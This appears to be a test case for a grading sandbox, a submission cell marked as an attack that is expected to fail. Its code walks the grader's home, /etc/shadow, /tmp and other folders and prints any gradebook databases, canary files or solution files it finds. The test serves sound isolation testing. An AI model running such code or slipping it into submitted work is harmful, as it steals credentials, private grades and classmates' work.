# attack: reads the grader's home, the gradebook and the classmates' submissions
# points: none
# must not: read anything outside its folder, utils.py, data/ and the system
# ordinary: yes

# %% before row_stats
import os, pwd
course = os.path.dirname(os.path.realpath("utils.py"))
places = [os.path.expanduser("~"), "/root", "/home", course, os.path.dirname(course), "/tmp", "/var", "/etc/shadow", "/run", "/mnt"]
for top in places:
    for place, folders, files in os.walk(top):
        folders[:] = [name for name in folders if name not in (".venv", "site-packages", "lib")]
        for name in files:
            if name in ("utils.py", "names.txt"):
                continue
            try:
                data = open(os.path.join(place, name), "rb").read(100_000)
            except OSError:
                continue
            if name == "shadow" or b"canary" in data or b"SQLite format" in data or b"BEGIN SOLUTION" in data:
                print("plun" + "der:", os.path.join(place, name), data[:300])
